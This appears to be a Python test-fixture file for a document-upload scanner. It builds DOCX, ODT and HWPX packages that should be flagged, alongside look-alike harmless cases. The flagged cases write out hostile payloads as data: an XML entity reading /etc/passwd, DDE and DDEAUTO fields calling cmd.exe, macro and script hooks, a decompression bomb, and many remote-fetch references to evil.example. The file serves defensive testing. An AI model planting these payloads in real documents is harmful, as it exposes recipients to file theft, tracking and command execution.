"""Parts of documents that run, fetch or hide something, by kind and format; and parts that only look like it."""

import gzip

from core.uploads import problems
from tests.attachments import docx_entries, hwpx_entries, odt_entries, package, relationship
from tests.core.uploads.field_parts import FETCHING, field, nested_field, simple_field

MACROS, OUTSIDE, BROKEN = problems.MACROS, problems.OUTSIDE_CONTENT, problems.BROKEN
ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
VBA = '<Types><Default Extension="b" ContentType="application/vnd.ms-office.vbaProject"/>'
ADDRESSES = ("http://evil.example/x", "HTTPS://evil.example/x", "//evil.example/x", r"\\\\evil.example\x",
    "file://evil.example/x", "ftp://evil.example/x", " http://evil.example/x", "file:%2f%2fevil.example/x")  # fmt: skip
ODT_ELEMENTS = {
    "content.xml": (
        '<image xlink:show="embed" xlink:actuate="onLoad" {}/>', "<section-source {}/>", "<object {}/>",
        "<object-ole {}/>", "<plugin {}/>", "<applet {}/>", "<floating-frame {}/>", "<script {}/>",
        "<fill-image {}/>", "<connection-resource {}/>", '<image xlink:actuate="onRequest" {}/>',
    ),
    "meta.xml": ("<template {}/>", "<auto-reload {}/>"),
    "styles.xml": ("<background-image {}/>", "<font-face-uri {}/>"),
    "Object 1/content.xml": ("<image {}/>",),
}  # fmt: skip
RUNNING = (
    '<event-listener {}="vnd.sun.star.script:x"/>',
    '<a {}="macro:///S.M.x"/>',
    '<a {}=" VND.sun.star.Script:x"/>',
)
# Attributes that load something, by the schema of OpenDocument 1.3, of XForms, MathML and SVG in it.
LOADING_ATTRIBUTES = (
    '<instance src="{}"/>',
    '<model schema="{}"/>',
    '<model schema="#inline {}"/>',
    '<model schema="a.xsd&#10;{}"/>',
    '<submission action="{}"/>',
    '<submission resource="{}"/>',
    '<load resource="{}"/>',
    '<label src="{}"/>',
    "<resource value=\"'{}'\"/>",
    '<image f:image-data="{}"/>',
    '<button f:image-data="{}"/>',
    '<image-frame f:image-data="{}"/>',
    '<applet f:archive="{}"/>',
    '<applet f:archive="a.jar,{}"/>',
    '<applet f:code="{}"/>',
    '<applet f:object="{}"/>',
    '<form f:datasource="{}"/>',
    '<mglyph src="{}"/>',
    '<math altimg="{}"/>',
    '<script href="{}"/>',
    '<link href="{}"/>',
    '<iframe src="{}"/>',
    '<video poster="{}"/>',
    '<image srcset="a.png 1x, {} 2x"/>',
    '<object data="{}"/>',
    '<x xml:base="{}"/>',
    '<p style="background:url({})"/>',
    "<rect fill=\"URL('{}')\"/>",
    "<style>a {{ background: url( {} ) }}</style>",
    '<style>@import "{}";</style>',
    '<?xml-stylesheet type="text/css" href="{}"?>',
    "<table-cell f:formula=\"of:=['{}'#$Sheet1.A1]\"/>",
    '<table-cell f:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;{}&quot;)"/>',
)
LOADING_WORD_PARTS = (
    '<webVideoPr embeddedHtml="&lt;iframe src=&apos;https://evil.example/&apos;>"/>',
    '<mailMerge><connectString val="Provider=x;Data Source=\\\\evil.example\\a.xlsx"/></mailMerge>',
    '<s:schema xmlns:s="urn:s" s:uri="x" s:manifestLocation="http://evil.example/m"/>',
    '<s:schema xmlns:s="urn:s" s:uri="x" s:schemaLocation="\\\\evil.example\\s.xsd"/>',
)


def docx(**entries) -> tuple:
    return "mou.docx", package(docx_entries(**entries))


def odt(name: str, element: str) -> tuple:
    names = (
        'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:l="http://www.w3.org/1999/xlink" xmlns:f="urn:f"'
    )
    root = f"<office {names}>{element}</office>"
    return "mou.odt", package(odt_entries(**{name: root}))


def hwpx(**entries) -> tuple:
    return "mou.hwpx", package(hwpx_entries(**entries))


def relationships(*args: str) -> str:
    return f"<Relationships>{relationship(*args)}</Relationships>"


HOSTILE_PARTS = {
    **{
        f"ODT with {element} in {name}": (*odt(name, element.format(f'xlink:href="{ADDRESSES[0]}"')), OUTSIDE)
        for name, elements in ODT_ELEMENTS.items()
        for element in elements
    },
    **{
        f"ODT with a picture from {address}": (*odt("content.xml", f'<image l:href="{address}"/>'), OUTSIDE)
        for address in ADDRESSES
    },
    **{
        f"ODT with {element} of {address}": (*odt(name, element.format(address)), OUTSIDE)
        for element in LOADING_ATTRIBUTES
        for name, address in (("content.xml", ADDRESSES[0]), ("Object 1/styles.xml", r"\\\\evil.example\x"))
        if ("WEBSERVICE" not in element or ":" in address)
        and not ("image srcset" in element and ":" not in address)
    },
    **{
        f"ODT with {row}": (*odt("content.xml", row), MACROS)
        for row in (
            '<script f:language="ooo:Basic"/>',
            "<script>evil()</script>",
            "<script><x/>evil()</script>",
            "<script>evil()<x/></script>",
            '<svg onload="evil()"/>',
            '<rect onMouseOver="evil()"/>',
            '<a xlink:href="vnd.libreoffice.command:x"/>',
            '<button xlink:href=".uno:Quit"/>',
            '<a xlink:href="javascript:x"/>',
        )
    },
    "ODT with a packed picture that loads": (
        "mou.odt",
        package(
            odt_entries(
                **{"Pictures/x.svgz": gzip.compress(b'<svg><image href="http://evil.example/x"/></svg>')}
            )
        ),
        OUTSIDE,
    ),
    "ODT with a packed picture that is a bomb": (
        "mou.odt",
        package(odt_entries(**{"Pictures/x.svgz": gzip.compress(b"<svg>" + b" " * (33 * 1024 * 1024), 1)})),
        problems.UNPACKS_TOO_LARGE,
    ),
    **{
        f"DOCX with a part in {encoding}": (
            *docx(**{"word/x.bin": f'<?xml version="1.0" encoding="{encoding}"?><x/>'}),
            BROKEN,
        )
        for encoding in ("shift_jis", "gb18030", "x-unknown")
    },
    "ODT with a picture that a button has from a host": (
        *odt("content.xml", '<button f:image-data="ftp://evil.example/x"/>'),
        OUTSIDE,
    ),
    "ODT with a formula in a workbook": (
        *docx(
            **{
                "word/a.xlsx": package(
                    {"[Content_Types].xml": "<Types/>", "xl/s.xml": "<c><f>WEBSERVICE(A1)</f></c>"}
                )
            }
        ),
        OUTSIDE,
    ),
    **{f"DOCX with {row}": (*docx(**{"word/document.xml": row}), OUTSIDE) for row in LOADING_WORD_PARTS},
    **{
        f"DOCX with {kind} by its relationship": (
            *docx(relationships=relationship(kind, "x.xml", "Internal")),
            MACROS,
        )
        for kind in ("webextension", "webextensiontaskpanes")
    },
    **{
        f"HWPX with {row}": (*hwpx(**{"Contents/section0.xml": row}), OUTSIDE)
        for row in (
            '<video videotype="Web" tag="&lt;iframe src=&quot;https://evil.example/&quot;>"/>',
            '<linkinfo path="//evil.example/x.hwpx"/>',
            '<img src="http://evil.example/x"/>',
            '<image href="http://evil.example/x"/>',
        )
    },
    **{
        f"DOCX with the fields {''.join(pieces)}": (
            *docx(**{"word/document.xml": nested_field(*pieces)}),
            OUTSIDE,
        )
        for pieces in (
            ("{", "INCLUDEPICTURE ", "{", "QUOTE 104 116 116 112", "|", "}", "|", "}"),
            ("{", 'INCLUDEPICTURE "ht', "{", 'QUOTE "tp"', "|", "}", '://evil.example/x"', "}"),
            ("{", "{", "QUOTE INCLUDEPICTURE", "|", "}", ' "http://evil.example/x"', "|", "}"),
            ("{", "PAGE", "|", "{", "INCLUDE", 'PICTURE "http', '://evil.example/x"', "|", "}", "}"),
            ("{", "INCLUDEPICTURE ", "|", '"http://evil.example/x"', "}"),
            ("{", 'INCLUDEPICTURE "http://evil.example/x"'),
            ("}", 'INCLUDEPICTURE "http://evil.example/x"', "}"),
        )
    },
    "DOCX with DDE after words": (*docx(**{"word/document.xml": field("PAGE D", "DE cmd")}), MACROS),
    **{f"ODT that runs {row}": (*odt("content.xml", row.format("xlink:href")), MACROS) for row in RUNNING},
    "ODT with a macro by name": (*odt("content.xml", '<event-listener macro-name="x"/>'), MACROS),
    "ODT with a field that runs a macro": (*odt("content.xml", '<execute-macro name="x"/>'), MACROS),
    "ODT with DDE": (*odt("content.xml", '<dde-connection-decl dde-application="cmd"/>'), MACROS),
    "ODT with DDE in a section": (*odt("content.xml", '<dde-source dde-application="cmd"/>'), MACROS),
    "ODT with an entity in its RDF": ("mou.odt", package(odt_entries(**{"manifest.rdf": ENTITY})), BROKEN),
    "ODT with an entity in capitals": ("mou.odt", package(odt_entries(**{"X.XML": ENTITY})), BROKEN),
    **{
        f"HWPX with an item at {address}": (
            *hwpx(**{"Contents/content.hpf": f'<package><item href="{address}" isEmbeded="0"/></package>'}),
            OUTSIDE,
        )
        for address in ADDRESSES
    },
    "HWPX with an entity in its RDF": (*hwpx(**{"META-INF/container.rdf": ENTITY}), BROKEN),
    **{
        f"DOCX with a template in {name}": (
            *docx(**{name: relationships("attachedTemplate", ADDRESSES[0])}),
            OUTSIDE,
        )
        for name in ("word/_rels/settings.xml.rels", "word/_rels/settings.xml.RELS", "WORD/_RELS/s.bin")
    },
    **{
        f"DOCX with a picture from {address}, not said to be external": (
            *docx(relationships=relationship("image", address, "Internal")),
            OUTSIDE,
        )
        for address in ADDRESSES
    },
    "DOCX with HTML that Word takes in": (
        *docx(relationships=relationship("aFChunk", "x.html", "Internal")),
        OUTSIDE,
    ),
    "DOCX with VBA by its type": (
        *docx(**{"[Content_Types].xml": docx_entries()["[Content_Types].xml"].replace("<Types>", VBA)}),
        MACROS,
    ),
    "DOCX with VBA by its relationship": (
        *docx(relationships=relationship("vbaProject", "project.bin", "Internal")),
        MACROS,
    ),
    "DOCX with a control by its relationship": (
        *docx(relationships=relationship("control", "c.xml", "Internal")),
        MACROS,
    ),
    "DOCX with a picture of VML": (
        *docx(**{"word/document.xml": '<d><imagedata src="http://evil.example/x"/></d>'}),
        OUTSIDE,
    ),
    **{
        f"DOCX with the field {row}": (*docx(**{"word/document.xml": field(row)}), OUTSIDE)
        for row in FETCHING
    },
    **{
        f"DOCX with the simple field {row}": (*docx(**{"word/h.xml": simple_field(row)}), OUTSIDE)
        for row in FETCHING
    },
    "DOCX with a field in pieces": (
        *docx(**{"word/document.xml": field("INCLUDE", 'PICTURE "ht', 'tp://e.example"')}),
        OUTSIDE,
    ),
    **{
        f"DOCX with the button {part}": (*docx(**{"word/document.xml": part}), MACROS)
        for part in (field("MACROBUTTON Evil click"), simple_field(" macrobutton evil"))
    },
    "DOCX with DDEAUTO": (*docx(**{"word/document.xml": field(" DDEAUTO c:\\\\cmd.exe")}), MACROS),
    "DOCX with DDE in pieces": (*docx(**{"word/footer1.xml": field("D", "DE cmd")}), MACROS),
    "DOCX with a simple field of DDE": (*docx(**{"word/document.xml": simple_field("dde cmd")}), MACROS),
    "DOCX with an entity in a picture": (*docx(**{"word/media/x.svg": ENTITY}), BROKEN),
    "DOCX with a picture that loads": (
        *docx(**{"word/media/x.svg": '<svg><image href="http://evil.example/x"/></svg>'}),
        OUTSIDE,
    ),
}

INERT_PARTS = {
    **{
        f"DOCX with the harmless {row}": (*docx(**{"word/settings.xml": row}), None)
        for row in (
            '<schema uri="http://example.org/ns" schemaLocation="local.xsd"/>',
            '<attachedSchema val="http://example.org/ns"/>',
            '<core xmlns:i="urn:i" i:schemaLocation="http://example.org/ns http://example.org/ns.xsd"/>',
        )
    },
    **{
        f"DOCX with the harmless field {row}": (*docx(**{"word/document.xml": field(row)}), None)
        for row in (
            'HYPERLINK "https://example.org"',
            'INCLUDEPICTURE "C:\\\\Users\\\\Kim\\\\seal.png" \\* MERGEFORMAT',
            'INCLUDEPICTURE "cid:image001.png"',
            "INCLUDEPICTURE \u201cC:\\Users\\Kim\\seal.png\u201d",
            "PAGE \\* MERGEFORMAT",
            "LINKS http://example.org",
            "REF MACROBUTTONS",
            'HYPERLINK "https://example.org/link" \\o "See the LINK http://example.org"',
            "",
        )
    },
    **{
        f"ODT with {row}": (*odt("content.xml", row), None)
        for row in (
            '<a xlink:href="https://example.org/"/>',
            '<area-circle xlink:href="https://example.org/"/>',
            '<template xlink:href="file:///home/kim/t.ott"/>',
            '<template xlink:href="/C:/Users/Kim/t.ott"/>',
            '<image xlink:href="Pictures/seal.png"/>',
            '<object xlink:href="./Object 1"/>',
            '<image xlink:href=""/>',
            '<image href="#a"/>',
            '<document-content g:transformation="http://docs.oasis-open.org/x.xsl" xmlns:g="urn:g"/>',
            '<bibliography-mark f:url="https://example.org/"/>',
            '<user-field-decl f:string-value="https://example.org/"/>',
            '<frame f:name="https://example.org/seal.png"/>',
            '<form xlink:href="https://example.org/"/>',
            '<form f:datasource="Bibliography"/>',
            '<model schema="#types a.xsd"/>',
            '<bind nodeset="//a/b" type="xsd:string"/>',
            '<applet f:code="Main" f:archive="a.jar"/>',
            '<button f:image-data="Pictures/a.png"/>',
            '<instance src="data.xml"/>',
            '<rect fill="url(#a)" style="fill:url(#b)"/>',
            "<style>a {{ fill: url(#b) }}</style>",
            '<table-cell f:formula="of:=HYPERLINK(&quot;https://example.org&quot;;&quot;x&quot;)"/>',
            "<table-cell f:formula=\"of:=['file:///C:/x.ods'#$Sheet1.A1]\"/>",
            "<scripts/>",
            '<event-listener macro-name=""/>',
        )
    },
    **{
        f"HWPX with a picture at {address}": (
            *hwpx(**{"Contents/content.hpf": f'<package><item href="{address}"/></package>'}),
            None,
        )
        for address in ("BinData/image1.png", r"C:\\Users\\Kim\\seal.png", "D:/seal.png", "")
    },
    **{
        f"DOCX with the harmless fields {''.join(pieces)}": (
            *docx(**{"word/document.xml": nested_field(*pieces)}),
            None,
        )
        for pieces in (
            ("{", 'INCLUDEPICTURE "cid:1"', "|", "}", "{", 'HYPERLINK "https://example.org"', "|", "}"),
            (
                "{",
                "IF ",
                "{",
                "MERGEFIELD x",
                "}",
                ' = "y" ',
                "{",
                'INCLUDEPICTURE "C:\\a"',
                "}",
                "{",
                'INCLUDEPICTURE "C:\\b"',
                "}",
                "}",
            ),
            ("{", 'TOC \\o "1-3"', "|", "{", "PAGEREF _Toc1", "|", "}", "}"),
        )
    },
    **{
        f"HWPX with {row}": (*hwpx(**{"Contents/section0.xml": row}), None)
        for row in (
            '<pic href="https://example.org/;1;0;0;"/>',
            '<video videotype="Local" tag=""/>',
            '<linkinfo path="C:/Kim/x.hwpx"/>',
            '<fieldBegin type="HYPERLINK"><stringParam name="Command">https\\://example.org;1;0;0;</stringParam></fieldBegin>',
        )
    },
    "HWPX with a preview that begins like XML": (*hwpx(**{"Preview/PrvText.txt": "<합의서> & <"}), None),
    "ODT with an empty part": (
        "mou.odt",
        package(odt_entries(**{"Configurations2/accelerator/current.xml": ""})),
        None,
    ),
    "DOCX with words on DDE": (*docx(**{"word/document.xml": "<d><t>DDE cmd</t></d>"}), None),
    "DOCX with a drawn picture": (
        *docx(
            **{
                "word/media/x.svg": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd"><svg/>'
            }
        ),
        None,
    ),
    "DOCX with a text that begins like XML": (*docx(**{"x.txt": "<합의서> & <"}), None),
}
